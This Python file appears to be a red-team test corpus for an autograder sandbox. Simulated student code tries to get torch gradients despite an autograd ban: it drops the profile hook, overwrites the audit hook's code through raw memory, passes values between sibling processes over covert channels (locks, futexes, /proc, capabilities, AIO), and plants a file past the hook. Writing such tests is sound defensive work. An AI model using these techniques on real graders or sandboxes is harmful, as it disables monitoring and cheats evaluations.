"""Determined attempts to get gradients from torch inside a student process, or from a sibling.

Each attack is written as a student who knows the grader would write it: it first switches off
the old run-time watch (a profile hook, dropped by Python when a RecursionError strikes inside
it) and uses references saved at import, called from C through `map`, so no wrapper and no
hook sees the call. Then it reaches for a derivative by one route: the engine, a graph node
called directly, forward-mode AD, torch.func, autograd.functional, checkpoint, TorchScript,
torch's own backward kernels, grad mode switched back on by another door, or gc and ctypes to
restore what was taken away. Then one passes autograd's gradients from exercise 1's process
to exercise 2's through file locks, one through the flags of the stdin they once shared, one
through page faults counted in /proc, one through the priority and CPU affinity each process
sets on itself, one through its CPU clock, one through the inheritable capabilities each
drops from its own set (read by pid with capget), one passes a value through shared futexes
once the audit hook is out of the way (numpy's array interface writes its code), one watches
a folder outside its Landlock rules with inotify, and one writes a file from torch's C++
(where a native library would be planted) past the audit hook.

With autograd switched off before student code (sandbox/inside/noautograd.py), every route
fails: the item ends `forbidden` (or `failed`, for the sibling that received nothing) and every
other item passes. Layer "autograd": the ban and its audit hook, in force on every platform.
"""

from __future__ import annotations

from attacks.corpus import WITH_HPREBN, Attack, _a

# The old watch off: deep recursion until the profile hook itself overflows and is dropped.
DROP_PROFILE_HOOK = """
import sys
def _deeper(k):
    return _deeper(k + 1)
for _ in range(20):
    if sys.getprofile() is None:
        break
    try:
        _deeper(0)
    except RecursionError:
        pass
"""

# The batch-norm backward of exercise 2, written as a forward pass for autograd to differentiate.
FORWARD = """
def _forward(x):
    m = x.mean(0, keepdim=True)
    v = x.var(0, keepdim=True, unbiased=True)
    return (bngain * (x - m) * (v + 1e-5) ** -0.5 * dhpreact).sum()
"""

# References saved at import, before any call could wrap them.
SAVED = """
import torch.utils.checkpoint
from torch.autograd import Variable
_ENGINE = Variable._execution_engine.run_backward
_GRAD_ON = torch._C._set_grad_enabled
_GRAD = torch.autograd.grad
_FUNC_GRAD = torch.func.grad
_VJP = torch.autograd.functional.vjp
_CHECKPOINT = torch.utils.checkpoint.checkpoint
_JACREV = torch.func.jacrev
"""


# The audit hook out of the way without ctypes (docs/threat-model.md, "Known limits": raw memory
# from Python): numpy's array interface reads and writes any address, and the hook's function,
# found through the frame of a refusal's traceback, gets a no-op's code. CPython 3.11's object
# layout (PyFrameObject.f_frame, _PyInterpreterFrame.f_func, PyFunctionObject.func_code);
# elsewhere it does nothing, and the attack below finds no channel to test.
UNHOOK = """
_S = {}


def _unhook():
    import sys
    if 'done' in _S or sys.version_info[:2] != (3, 11):
        return 'done' in _S
    import numpy as np

    class Raw:
        def __init__(self, addr, n):
            self.__array_interface__ = {
                'data': (addr, False), 'shape': (n,), 'typestr': '|u1', 'version': 3}

    def peek(addr, n):
        return bytes(np.asarray(Raw(addr, n)))

    def poke(addr, data):
        np.asarray(Raw(addr, len(data)))[:] = np.frombuffer(data, np.uint8)

    def ptr(addr):
        return int.from_bytes(peek(addr, 8), 'little')

    try:
        open('/dev/null', 'w').close()
        _S['done'] = True  # no hook here
        return True
    except PermissionError as e:
        tb = e.__traceback__
    frames = []
    while tb is not None:
        frames.append(tb.tb_frame)
        tb = tb.tb_next
    hooks = [f for f in frames if f.f_code.co_name == 'hook']
    if not hooks:
        return False
    func = ptr(ptr(id(hooks[0]) + 24))
    if ptr(func + 48) != id(hooks[0].f_code):
        return False
    noop = (lambda event, args: None).__code__
    poke(id(noop), (ptr(id(noop)) + 1000).to_bytes(8, 'little'))
    poke(func + 48, id(noop).to_bytes(8, 'little'))
    _S['done'] = True
    return True


def _futex():
    # A futex on the first page of a file every student process maps: the standard library's
    import ctypes, mmap, os, platform
    import numpy as np
    if 'futex' in _S:
        return _S['futex']
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    page = mmap.mmap(os.open(os.__file__, os.O_RDONLY), 4096, mmap.MAP_SHARED, mmap.PROT_READ)
    words = np.frombuffer(page, dtype=np.uint32, count=64)
    base = words.__array_interface__['data'][0]
    nr = {'x86_64': 202, 'aarch64': 98}[platform.machine()]

    class Ts(ctypes.Structure):
        _fields_ = [('s', ctypes.c_long), ('ns', ctypes.c_long)]

    def wake(k):  # FUTEX_WAKE, shared (no FUTEX_PRIVATE_FLAG)
        return libc.syscall(nr, ctypes.c_void_p(base + 4 * k), 1, 64, None, None, 0)

    def wait(k, seconds):  # FUTEX_WAIT, shared: True when another process woke it
        ts = Ts(0, int(seconds * 1e9))
        value = ctypes.c_uint32(int(words[k]))
        return libc.syscall(nr, ctypes.c_void_p(base + 4 * k), 0, value, ctypes.byref(ts),
                            None, 0) == 0

    _S['futex'] = (page, wake, wait)
    return _S['futex']
"""

# capget and capset, once ctypes is allowed again: any process's inheritable capabilities read
# by pid, and this process's own set to a subset of what it has.
CAPABILITIES = """
def _cap_call(name, pid, inheritable=None):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)

    class Header(ctypes.Structure):
        _fields_ = [('version', ctypes.c_uint32), ('pid', ctypes.c_int)]

    class Data(ctypes.Structure):
        _fields_ = [('eff', ctypes.c_uint32), ('prm', ctypes.c_uint32), ('inh', ctypes.c_uint32)]

    header, data = Header(0x20080522, pid), (Data * 2)()
    if libc.capget(ctypes.byref(header), data) != 0:
        return None
    if name == 'set':
        data[0].inh = inheritable
        libc.capset(ctypes.byref(header), data)
    return data[0].inh


def _capget(pid):
    return _cap_call('get', pid)


def _set_inheritable(value):
    _cap_call('set', 0, value)
"""


# Linux's native AIO, once ctypes is allowed again: the events of every context io_setup makes
# count into one number for the whole machine (fs.aio-nr, up to fs.aio-max-nr, 65536 unless
# raised), which a process reads without /proc by asking for contexts until one is refused.
AIO = """
def _aio_setup(events):
    import ctypes, platform
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    setup, destroy = {'x86_64': (206, 207), 'aarch64': (0, 1)}[platform.machine()]
    ctx = ctypes.c_ulong(0)
    if libc.syscall(ctypes.c_long(setup), ctypes.c_long(events), ctypes.byref(ctx)) != 0:
        return None
    return lambda: libc.syscall(ctypes.c_long(destroy), ctx)


def _aio_hold(events):
    if 'aio' not in _S:
        _S['aio'] = _aio_setup(events)


def _aio_room():
    first = _aio_setup(1)
    if first is None:
        return None  # no context at all: nothing to read
    first()
    low, high = 0, 65536
    while low < high:
        mid = (low + high + 1) // 2
        destroy = _aio_setup(mid)
        if destroy is None:
            high = mid - 1
        else:
            destroy()
            low = mid
    return low
"""


def _attack(name: str, what: str, body: str, lost: str = "forbidden") -> Attack:
    code = DROP_PROFILE_HOOK + FORWARD + body
    return _a(
        name,
        what,
        "exercise2.dhprebn",
        code,
        lost,
        layer="autograd",
        also=(("exercise2", SAVED),),
        signature=WITH_HPREBN,
    )


def _in_map(call: str) -> str:
    """The call made by `map`, from C: no Python frame of the student's calls it."""
    return f"(_result,) = list(map({call}))\n"


RUNTIME_ATTACKS: list[Attack] = [
    _attack(
        "engine_saved_at_import_called_through_map",
        "the engine's run_backward saved at import, grad mode switched on through a saved "
        "reference, both called from C through map",
        """
x = hprebn.clone().requires_grad_(True)
list(map(_GRAD_ON, [True]))
out = _forward(x)
# run_backward(tensors, grad_tensors, keep_graph, create_graph, inputs, allow_unreachable,
# accumulate_grad): with accumulate_grad off it returns the gradients of `inputs`.
(g,) = list(map(_ENGINE, [(out,)], [(torch.ones_like(out),)], [False], [False], [(x,)],
                [True], [False]))[0]
return g.detach()
""",
    ),
    _attack(
        "grad_fn_called_directly",
        "builds the graph, then calls its nodes (grad_fn, next_functions) by hand",
        """
x = hprebn.clone().requires_grad_(True)
torch.set_grad_enabled(True)
out = _forward(x)
deps, stack, seen = {}, [out.grad_fn], {out.grad_fn}
while stack:
    for nxt, _ in stack.pop().next_functions:
        if nxt is not None:
            deps[nxt] = deps.get(nxt, 0) + 1
            if nxt not in seen:
                seen.add(nxt)
                stack.append(nxt)
grads, ready, total = {out.grad_fn: torch.ones_like(out)}, [out.grad_fn], torch.zeros_like(x)
while ready:
    node = ready.pop()
    g = grads.pop(node)
    if hasattr(node, 'variable'):
        total = total + g
        continue
    outs = node(g)
    outs = outs if isinstance(outs, tuple) else (outs,)
    for (nxt, _), gi in zip(node.next_functions, outs):
        if nxt is None:
            continue
        if gi is not None:
            grads[nxt] = grads[nxt] + gi if nxt in grads else gi
        deps[nxt] -= 1
        if deps[nxt] == 0 and nxt in grads:
            ready.append(nxt)
return total.detach()
""",
    ),
    _attack(
        "forward_mode_dual_numbers",
        "forward-mode AD through the C functions behind dual tensors, one column at a time",
        """
import torch._C as C
level = C._enter_dual_level()
C._set_fwd_grad_enabled(True)
out = torch.zeros_like(hprebn)
for i in range(hprebn.shape[0]):
    for j in range(hprebn.shape[1]):
        t = torch.zeros_like(hprebn)
        t[i, j] = 1
        dual = torch._make_dual(hprebn, t, level)
        out[i, j] = torch._unpack_dual(_forward(dual), level)[1]
return out
""",
    ),
    _attack(
        "torch_func_grad_saved",
        "torch.func.grad saved at import, called through map",
        _in_map("lambda f: _FUNC_GRAD(f)(hprebn), [_forward]") + "return _result.detach()\n",
    ),
    _attack(
        "torch_func_jacrev_saved",
        "torch.func.jacrev saved at import, the Jacobian of the per-element forward",
        """
row = lambda x: (bngain * (x - x.mean(0, keepdim=True))
                 * (x.var(0, keepdim=True, unbiased=True) + 1e-5) ** -0.5 * dhpreact)
jac = list(map(lambda f: _JACREV(lambda x: f(x).sum())(hprebn), [row]))[0]
return jac.detach()
""",
    ),
    _attack(
        "autograd_functional_vjp",
        "torch.autograd.functional.vjp saved at import, torch.autograd.grad put back first",
        "torch.autograd.grad = _GRAD\n"
        + _in_map("lambda x: _VJP(_forward, x)[1], [hprebn]")
        + "return _result.detach()\n",
    ),
    _attack(
        "checkpoint_backward",
        "backward through torch.utils.checkpoint, the gradient read from .grad",
        """
x = hprebn.clone().requires_grad_(True)
torch.set_grad_enabled(True)
return _GRAD(_CHECKPOINT(_forward, x, use_reentrant=False), x)[0].detach()
""",
    ),
    _attack(
        "inference_mode_off_switches_grad_on",
        "inference_mode(False) turns grad mode on by another door, then autograd.grad",
        """
x = hprebn.clone().requires_grad_(True)
with torch.inference_mode(False):
    return _GRAD(_forward(x), x)[0].detach()
""",
    ),
    _attack(
        "torch_ops_set_grad_enabled",
        "grad mode switched on through the TorchScript operator, then autograd.grad",
        """
x = hprebn.clone().requires_grad_(True)
torch.ops.aten.set_grad_enabled(True)
return _GRAD(_forward(x), x)[0].detach()
""",
    ),
    _attack(
        "torchscript_autograd",
        "a TorchScript function that switches grad on and calls the C++ engine itself",
        """
src = '''
def g(x, gain, d):
    torch.set_grad_enabled(True)
    x = x.detach().requires_grad_(True)
    m = x.mean(0, keepdim=True)
    v = x.var(0, keepdim=True, unbiased=True)
    out = (gain * (x - m) * (v + 1e-5) ** -0.5 * d).sum()
    return torch.autograd.grad([out], [x])[0]
'''
torch.autograd.grad = _GRAD  # the name the script compiles, put back as it was
cu = torch.jit.CompilationUnit(src)
return cu.g(hprebn, bngain, dhpreact).detach()
""",
    ),
    _attack(
        "gc_restores_what_was_removed",
        "walks the object graph with gc to find the real engine and grad switch",
        """
import gc
engine = type(torch.autograd.Variable._execution_engine)
real = gc.get_referents(engine.__dict__)[0]
found = [o for o in gc.get_referrers(engine) if isinstance(o, dict) and 'run_backward' in o]
real['run_backward'] = (found or [real])[0]['run_backward']
x = hprebn.clone().requires_grad_(True)
torch.set_grad_enabled(True)
return _GRAD(_forward(x), x)[0].detach()
""",
    ),
    _attack(
        "ctypes_switches_grad_mode_in_libtorch",
        "calls at::GradMode::set_enabled in libtorch through ctypes",
        """
import ctypes
import os
lib = os.path.join(os.path.dirname(torch.__file__), 'lib', 'libc10.so')
ctypes.CDLL(lib)._ZN3c108GradMode11set_enabledEb(True)
x = hprebn.clone().requires_grad_(True)
return _GRAD(_forward(x), x)[0].detach()
""",
    ),
    _a(
        "backward_kernels_for_dlogits",
        "dlogits from torch's own backward kernels (log_softmax and nll_loss), saved operators",
        "exercise2.dlogits",
        """
import torch.nn.functional as F
logp = F.log_softmax(logits, 1)
count = torch.tensor(float(logits.shape[0]))
g = torch.ops.aten.nll_loss_backward(torch.tensor(1.0), logp, Yb, None, 1, -100, count)
return torch._log_softmax_backward_data(g, logp, 1, logp.dtype)
""",
        "forbidden",
        layer="autograd",
    ),
    _a(
        "backward_kernel_by_its_out_form",
        "dhpreact from tanh's backward kernel by its out= overload (tanh_backward.grad_input), "
        "an operator of its own in the dispatcher beside the default one",
        "exercise1.dhpreact",
        """
found = torch.empty_like(h)
torch.ops.aten.tanh_backward.grad_input(dh, h, grad_input=found)
return found
""",
        "forbidden",
        layer="autograd",
    ),
    _a(
        "python_formula_kept_by_its_operator",
        "dhpreact from torch._decomp's own tanh_backward, which the operator object keeps among "
        "its Python kernels (registered for the Meta key) and which works on any tensor",
        "exercise1.dhpreact",
        """
(formula,) = torch.ops.aten.tanh_backward.default.py_kernels.values()
return formula(dh, h)
""",
        "forbidden",
        layer="autograd",
    ),
    _a(
        "backward_kernel_for_nested_tensors",
        "dlogits from softmax's backward kernel for nested tensors (a dispatch key of its own "
        "beside CPU's), in inference mode, which skips the autograd keys",
        "exercise2.dlogits",
        """
import torch.nn.functional as F
probs = F.softmax(logits, 1)
dprobs = torch.zeros_like(probs)
dprobs[range(n), Yb] = -1.0 / (n * probs[range(n), Yb])
nested = torch.nested.nested_tensor
with torch.inference_mode():
    found = torch.ops.aten._softmax_backward_data.default(
        nested([dprobs]), nested([probs]), 2, probs.dtype
    )
return found.unbind()[0].clone()
""",
        "forbidden",
        layer="autograd",
    ),
    _a(
        "lock_channel_between_exercises",
        "exercise1.dh publishes autograd's dlogits as POSIX record locks on a file both "
        "processes can read (F_SETLK and OFD locks, the value in the lock's range); "
        "exercise2.dlogits reads them back with F_GETLK",
        "exercise2.dlogits",
        """
import fcntl
import os
import struct
import numpy
try:  # a file every student process can read (the standard library's, imported by all)
    fd = os.open(os.__file__, os.O_RDONLY)
except OSError:
    return torch.zeros_like(logits)
bits = []
for k in range(logits.numel()):
    for cmd in (36, fcntl.F_GETLK):  # F_OFD_GETLK first, then a classic lock
        try:
            probe = struct.pack('hhqqi4x', fcntl.F_WRLCK, 0, k << 33, 1 << 33, 0)
            kind, _, start, _, _ = struct.unpack('hhqqi4x', fcntl.fcntl(fd, cmd, probe))
        except OSError:
            continue
        if kind != fcntl.F_UNLCK:
            bits.append(start - (k << 33))
            break
if len(bits) == logits.numel():
    data = numpy.array(bits, dtype=numpy.uint32).view(numpy.float32)
    return torch.from_numpy(data.copy()).reshape(logits.shape)
return torch.zeros_like(logits)
""",
        "failed",
        layer="autograd",
        expect={"exercise2.dlogits": "failed"},
        also=(
            (
                "exercise1.dh",
                """
import fcntl
import os
import struct
global _LOCKED
_LOCKED = os.open(os.__file__, os.O_RDONLY)
raw = dlogits.contiguous().view(torch.int32).flatten().tolist()
for k, bits in enumerate(raw):
    start = (k << 33) + (bits & 0xFFFFFFFF)
    for cmd in (37, fcntl.F_SETLK):  # F_OFD_SETLK, then a classic lock
        try:
            fcntl.fcntl(_LOCKED, cmd, struct.pack('hhqqi4x', fcntl.F_RDLCK, 0, start, 1, 0))
            break
        except OSError:
            pass
""",
            ),
        ),
    ),
    _a(
        "futex_channel_between_exercises",
        "with the audit hook out of the way (numpy's array interface, no ctypes needed), "
        "exercise1.dh signals dlogits[0, 0] bit by bit through shared futexes on a page of the "
        "standard library both processes map (a timer wakes them between the grader's calls); "
        "exercise2.dlogits waits on each and compares what it got with what it computes",
        "exercise2.dlogits",
        """
if _unhook():
    _page, _wake, _wait = _futex()
    got = 0
    for k in range(32):
        if _wait(k, 0.004):
            got |= 1 << k
    got -= (got >> 31) << 32
    mine = round(float((F.softmax(logits, 1)[0, 0] - (Yb[0] == 0).float()) / n) * 1e6)
    if mine and abs(got - mine) <= 1:
        raise RuntimeError(f'ATTACK SUCCEEDED: exercise 1 told exercise 2 {got}')
""",
        "passed",
        also=(
            ("exercise1", UNHOOK),
            ("exercise2", UNHOOK),
            (
                "exercise1.dh",
                """
if 'timer' not in _S and _unhook():
    import signal
    _page, _wake, _wait = _futex()
    value = round(float(dlogits[0, 0]) * 1e6) & 0xFFFFFFFF
    ones = [k for k in range(32) if value >> k & 1]

    def _tick(signum, frame):
        for k in ones:
            _wake(k)

    signal.signal(signal.SIGALRM, _tick)
    signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)
    _S['timer'] = True
""",
            ),
        ),
    ),
    _a(
        "stdin_flags_channel_between_exercises",
        "exercise1.dh writes the sign of autograd's dlogits[0, 0] into the status flags of its "
        "descriptor 0 (fcntl F_SETFL: O_APPEND for the bit, O_NONBLOCK for 'sent'), which every "
        "process forked from the zygote shared (one /dev/null); exercise2.dlogits reads them "
        "with F_GETFL (a timer toggling them carried ~200 bits a second, and between two "
        "students graded at once)",
        "exercise2.dlogits",
        """
import fcntl
import os
flags = fcntl.fcntl(0, fcntl.F_GETFL)
if flags & os.O_NONBLOCK:
    sign = '-' if flags & os.O_APPEND else '+'
    raise RuntimeError(f'ATTACK SUCCEEDED: exercise 1 told exercise 2 dlogits[0, 0] is {sign}')
""",
        "passed",
        also=(
            (
                "exercise1.dh",
                """
import fcntl
import os
flags = fcntl.fcntl(0, fcntl.F_GETFL) | os.O_NONBLOCK
if dlogits[0, 0] < 0:
    flags |= os.O_APPEND
fcntl.fcntl(0, fcntl.F_SETFL, flags)
""",
            ),
        ),
    ),
    _a(
        "proc_counters_channel_between_exercises",
        "exercise1.dh touches 25,000 fresh pages, a number it chose (a page fault each), and "
        "exercise2.dlogits reads its sibling's page faults in /proc/PID/stat, which any uid may "
        "read where no Landlock closes /proc (bubblewrap's /proc showed every process of the "
        "submission); exactly the channel to carry a value, in pure Python",
        "exercise2.dlogits",
        """
import os
try:
    names = [p for p in os.listdir('/proc') if p.isdigit()]
except OSError:
    names = []
for pid in names:
    if int(pid) in (os.getpid(), os.getppid()):
        continue
    try:
        with open(f'/proc/{pid}/stat') as f:
            faults = int(f.read().rsplit(')', 1)[1].split()[7])
    except (OSError, IndexError, ValueError):
        continue
    if faults >= 25000:
        raise RuntimeError(f'ATTACK SUCCEEDED: exercise 1 told exercise 2 {faults} in page faults')
""",
        "passed",
        layer="exchange",
        also=(
            (
                "exercise1.dh",
                """
if 'pages' not in _T:
    _T['pages'] = bytearray(25000 * 4096)  # zero pages: the kernel faults each one in
""",
            ),
        ),
    ),
    _a(
        "scheduling_channel_between_exercises",
        "exercise1.dh sets its own nice value to 7 and its CPU affinity to one CPU, which any "
        "process may do to itself; exercise2.dlogits reads every process's priority and "
        "affinity by pid (os.getpriority, os.sched_getaffinity), which no uid, Landlock rule or "
        "/proc mount keeps from it: a register rewritten at will, in pure Python",
        "exercise2.dlogits",
        """
import os
for pid in range(1, 200):
    if pid == os.getpid():
        continue
    try:
        nice = os.getpriority(os.PRIO_PROCESS, pid)
        cpus = os.sched_getaffinity(pid)
    except OSError:
        continue
    if nice == 7:
        raise RuntimeError(f'ATTACK SUCCEEDED: exercise 1 told exercise 2 {nice} and {cpus}')
""",
        "passed",
        layer="exchange",
        also=(
            (
                "exercise1.dh",
                """
import os
os.setpriority(os.PRIO_PROCESS, 0, 7)
os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
""",
            ),
        ),
    ),
    _a(
        "cpu_clock_channel_between_exercises",
        "exercise1.dh burns CPU until its process has used 0.3 s, an amount it chose, and "
        "exercise2.dlogits reads its sibling's CPU clock to the nanosecond "
        "(time.clock_gettime with the clock id ~pid << 3 | 2), which the kernel lets any "
        "process of the pid namespace read, /proc closed or not",
        "exercise2.dlogits",
        """
import os
import time
for pid in range(1, 200):
    if pid in (os.getpid(), os.getppid()):
        continue
    try:
        used = time.clock_gettime(((~pid) << 3) | 2)
    except OSError:
        continue
    if used >= 0.3:
        raise RuntimeError(f'ATTACK SUCCEEDED: exercise 1 told exercise 2 {used:.6f} s')
""",
        "passed",
        layer="exchange",
        also=(
            (
                "exercise1.dh",
                """
import time
while time.process_time() < 0.3:
    pass
""",
            ),
        ),
    ),
    _a(
        "capabilities_channel_between_exercises",
        "with the audit hook out of the way (numpy's array interface), exercise1.dh drops bits "
        "of its own inheritable capabilities (under bubblewrap as root every student process "
        "had the zygote's six, CapInh 0xeb) to spell the sign of autograd's dlogits[0, 0], and "
        "exercise2.dlogits reads every process's sets with capget(pid), which names its target "
        "inside a struct no seccomp filter reads and asks for no permission",
        "exercise2.dlogits",
        """
if _unhook():
    import os
    for pid in range(1, 200):
        if pid != os.getpid() and _capget(pid) in (0x01, 0x02):
            sign = '-' if _capget(pid) == 0x01 else '+'
            raise RuntimeError(f'ATTACK SUCCEEDED: exercise 1 told exercise 2 the sign {sign}')
""",
        "passed",
        layer="autograd",
        also=(
            ("exercise1", UNHOOK + CAPABILITIES),
            ("exercise2", UNHOOK + CAPABILITIES),
            (
                "exercise1.dh",
                """
if _unhook():
    _set_inheritable(0x01 if dlogits[0, 0] < 0 else 0x02)
""",
            ),
        ),
    ),
    _a(
        "aio_count_channel_between_exercises",
        "with the audit hook out of the way (numpy's array interface), exercise1.dh holds an "
        "AIO context of 50,000 events if autograd's dlogits[0, 0] is negative and of 30,000 if "
        "not, and exercise2.dlogits reads the machine's count of AIO events (in no namespace) "
        "by asking io_setup for ever larger contexts until one is refused: a 16-bit register "
        "every process of the machine shares, rewritten at will",
        "exercise2.dlogits",
        """
room = _aio_room() if _unhook() else None
if room is not None and 65536 - room >= 25000:
    held = 65536 - room
    sign = '-' if held >= 45000 else '+'
    raise RuntimeError(f'ATTACK SUCCEEDED: exercise 1 told exercise 2 the sign {sign}')
""",
        "passed",
        also=(
            ("exercise1", UNHOOK + AIO),
            ("exercise2", UNHOOK + AIO),
            (
                "exercise1.dh",
                """
if _unhook():
    _aio_hold(50000 if dlogits[0, 0] < 0 else 30000)
""",
            ),
        ),
    ),
    _a(
        "inotify_watch_outside",
        "with the audit hook out of the way (numpy's array interface), watches a folder outside "
        "its Landlock rules with inotify, which Landlock does not cover: the names of files the "
        "grader makes there (other students' results in a batch) and every open of its files",
        "exercise2.dhprebn",
        """
if _unhook():
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(0)
    if fd >= 0:
        folder = os.path.dirname(_T['sentinel'])  # seen only by code that sees the real /tmp
        if libc.inotify_add_watch(fd, folder.encode(), 0xFFF) >= 0:
            raise RuntimeError(f'ATTACK SUCCEEDED: inotify watches {folder}')
""",
        "passed",
        layer="files",
        also=(("exercise2", UNHOOK),),
    ),
    _a(
        "native_library_planted_by_torch",
        "writes a file's bytes from torch's C++ (torch.from_file shared, torch.save), where the "
        "audit hook sees no open: a native library planted so, imported as an extension module, "
        "switches grad mode on in libtorch (a red team did, with Landlock absent)",
        "exercise2.dhprebn",
        """
import os
payload = bytearray(b'\\x7fELF' + bytes(range(256)) * 16)
planted = []
for folder in ('.', '/tmp', '/dev/shm'):
    path = os.path.join(folder, 'escape-' + _T['token'])
    for write in (
        lambda p: torch.from_file(p, shared=True, size=len(payload), dtype=torch.uint8)
        .copy_(torch.frombuffer(payload, dtype=torch.uint8)),
        lambda p: torch.save(torch.frombuffer(payload, dtype=torch.uint8), p),
    ):
        try:
            write(path)
            if os.path.getsize(path) > 0:
                planted.append(path)
        except Exception:
            pass
if planted:
    raise RuntimeError(f'ATTACK SUCCEEDED: bytes written into {sorted(set(planted))}')
""",
        "passed",
        layer="autograd",
    ),
]
